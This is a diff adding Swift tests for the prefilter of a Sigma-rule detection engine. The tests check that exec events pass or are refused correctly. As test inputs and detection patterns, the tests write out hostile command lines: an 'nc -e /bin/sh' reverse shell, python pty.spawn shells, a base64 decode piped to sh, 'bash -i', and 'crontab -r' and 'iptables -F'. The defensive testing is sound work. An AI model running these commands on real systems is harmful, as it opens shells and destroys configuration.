@@ -291,6 +291,140 @@ import Testing
         #expect(try matches(all, ["nc", filler, "-e", "/bin/sh"]))
         #expect(try !matches(all, ["nc", filler, "-c", "/bin/sh"]))
     }
+
+    /// The probe of an exec (its paths, no `args`) and its argv as a source reads it: each
+    /// argument NUL-terminated.
+    private func probe(_ whole: ExecEvent) -> (event: ExecEvent, area: [UInt8]) {
+        var probe = ExecEvent(eventTime: whole.eventTime, hostName: whole.hostName, procName: whole.procName)
+        probe.invokedPath = whole.invokedPath
+        probe.exePath = whole.exePath
+        return (probe, (whole.args ?? []).flatMap { $0 + [0] })
+    }
+
+    @Test func aProbeIsRefusedWhenNoGuardOfItsCandidatesHolds() throws {
+        let shell = try sigmaRule(
+            id: "shell",
+            "    sel:\n        CommandLine|contains: ' -e /bin/sh'\n    condition: sel"
+        )
+        let pty = try sigmaRule(
+            id: "pty",
+            "    sel:\n        ParentImage|endswith: '/python3'\n        CommandLine|contains: 'pty.spawn'\n    condition: sel"
+        )
+        let tmp = try sigmaRule(id: "tmp", "    sel:\n        Image|startswith: '/tmp/'\n    condition: sel")
+        var e = engine([shell, pty, tmp])
+        let quiet = processEvent(image: "/usr/bin/true", commandLine: ["true"])
+        #expect(e.mayMatch(probe(quiet).event), "every exec is a candidate of the unindexed rules")
+        #expect(!e.mayMatch(probe(quiet).event, argumentArea: probe(quiet).area))
+        #expect(run(&e, quiet) == ([], 0), "the whole event evaluates no filter either")
+        // The guard's text spans arguments: NULs read as the spaces that join them.
+        let reverse = processEvent(image: "/usr/bin/nc", commandLine: ["nc", "-e", "/bin/sh", "10.0.0.1"])
+        #expect(e.mayMatch(probe(reverse).event, argumentArea: probe(reverse).area))
+        #expect(run(&e, reverse).ids == ["shell"])
+        // Without the last terminator (an argv cut short) the same.
+        #expect(e.mayMatch(probe(reverse).event, argumentArea: Array("nc\0-e\0/bin/sh".utf8)))
+        #expect(!e.mayMatch(probe(reverse).event, argumentArea: Array("nc\0-e\0/bin/s".utf8)))
+        // A rule filed under its parent: the probe has no parent, its guard decides.
+        let spawn = processEvent(
+            image: "/bin/sh",
+            commandLine: ["sh", "-c", "import pty;pty.spawn('/bin/sh')"],
+            parentImage: "/usr/bin/python3"
+        )
+        #expect(e.mayMatch(probe(spawn).event, argumentArea: probe(spawn).area))
+        #expect(run(&e, spawn).ids == ["pty"])
+        // A guard on Image's paths holds in the probe's paths.
+        let dropped = processEvent(image: "/tmp/x", commandLine: ["x"])
+        #expect(e.mayMatch(probe(dropped).event, argumentArea: probe(dropped).area))
+        // A rule without a guard admits every exec.
+        let root = try sigmaRule(id: "root", "    sel:\n        User: root\n    condition: sel")
+        let withRoot = engine([shell, root])
+        #expect(withRoot.mayMatch(probe(quiet).event, argumentArea: probe(quiet).area))
+    }
+
+    @Test func aTermWithTooManyTextsLeavesTheGuardToAnother() throws {
+        // A long list of package names (the longer texts) beside a short Image test: the list is
+        // too long to be a guard, the Image test guards the rule.
+        let packages = (0..<200).map { "            - 'package-\($0)@1.0.0'" }.joined(separator: "\n")
+        let npm = try sigmaRule(
+            id: "npm",
+            "    sel:\n        Image|contains: '/node'\n        CommandLine|contains:\n\(packages)\n    condition: sel"
+        )
+        var e = engine([npm])
+        let quiet = processEvent(image: "/usr/bin/true", commandLine: ["true"])
+        #expect(!e.mayMatch(probe(quiet).event, argumentArea: probe(quiet).area))
+        let install = processEvent(image: "/usr/bin/node", commandLine: ["npm", "install", "package-7@1.0.0"])
+        #expect(e.mayMatch(probe(install).event, argumentArea: probe(install).area))
+        #expect(run(&e, install).ids == ["npm"])
+        // A hundred alternatives are still a guard.
+        let hundred = (0..<100).map { "            - 'tool-\($0) '" }.joined(separator: "\n")
+        let tools = try sigmaRule(
+            id: "tools",
+            "    sel:\n        CommandLine|contains:\n\(hundred)\n    condition: sel"
+        )
+        var t = engine([tools])
+        #expect(!t.mayMatch(probe(quiet).event, argumentArea: probe(quiet).area))
+        let tool = processEvent(image: "/usr/bin/env", commandLine: ["env", "tool-99", "-x"])
+        #expect(t.mayMatch(probe(tool).event, argumentArea: probe(tool).area))
+        #expect(run(&t, tool).ids == ["tools"])
+    }
+
+    @Test func aNonASCIIGuardIsNotDecidedOnInvalidUTF8() throws {
+        // The joined command line shows invalid UTF-8 as U+FFFD, which a literal may name: raw
+        // bytes with 0x80 and up cannot tell whether it is there.
+        let replaced = try sigmaRule(
+            id: "fffd",
+            "    sel:\n        CommandLine|contains: \"x\\uFFFD\"\n    condition: sel"
+        )
+        var e = engine([replaced])
+        let invalid = ExecEvent(
+            eventTime: EventTime(millisecondsSinceEpoch: 1_700_000_000_000),
+            hostName: "h",
+            procName: "echo",
+            args: [Array("echo".utf8), [UInt8(ascii: "x"), 0xFF]]
+        )
+        #expect(run(&e, invalid).ids == ["fffd"])
+        #expect(e.mayMatch(probe(invalid).event, argumentArea: probe(invalid).area))
+        let valid = processEvent(image: "/bin/echo", commandLine: ["echo", "xy"])
+        #expect(!e.mayMatch(probe(valid).event, argumentArea: probe(valid).area))
+    }
+
+    /// Over the corpus, on commands its rules name and commands they do not: a probe refused
+    /// means the whole event evaluates no filter.
+    @Test func aRefusedProbeNeverLosesACorpusMatch() throws {
+        let result = try SigmaCorpusTests.load()
+        var e = engine(result.rules)
+        let commands: [([String], String)] = [
+            (["true"], "/usr/bin/true"),
+            (["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "/usr/bin/nc.openbsd"),
+            (["sh", "-c", "echo aGk= | base64 -d | sh"], "/usr/bin/dash"),
+            (["chmod", "+x", "/tmp/payload"], "/usr/bin/chmod"),
+            (["bash", "-i"], "/usr/bin/bash"),
+            (["cc1", "-quiet", "-I", "/usr/include", "x.c"], "/usr/lib/gcc/x86_64-linux-gnu/12/cc1"),
+            (["crontab", "-r"], "/usr/bin/crontab"),
+            (["python3", "-c", "import pty;pty.spawn('/bin/sh')"], "/usr/bin/python3.11"),
+            (["iptables", "-F"], "/usr/sbin/xtables-legacy-multi"),
+            (["git", "status"], "/usr/bin/git"),
+        ]
+        var refused = 0
+        for (k, (argv, exe)) in commands.enumerated() {
+            var whole = processEvent(
+                image: exe,
+                invoked: "/usr/bin/" + argv[0],
+                commandLine: argv,
+                parentImage: "/usr/bin/bash"
+            )
+            whole.eventTime = EventTime(millisecondsSinceEpoch: 1_700_000_000_000 + Int64(k) * 1000)
+            whole.procName = argv[0]
+            let (event, area) = probe(whole)
+            let admitted = e.mayMatch(event, argumentArea: area)
+            let (ids, evaluated) = run(&e, whole)
+            if !admitted {
+                refused += 1
+                #expect(ids.isEmpty && evaluated == 0, "\(argv) refused but evaluated \(evaluated): \(ids)")
+            }
+        }
+        #expect(refused >= 3, "/bin/true, git and cc1 name nothing the corpus guards")
+        #expect(!e.mayMatch(probe(processEvent(commandLine: ["true"])).event, argumentArea: Array("true\0".utf8)))
+    }
 }
 
 /// Rule ids of the incidents an event creates or updates, and how many filters it evaluated.
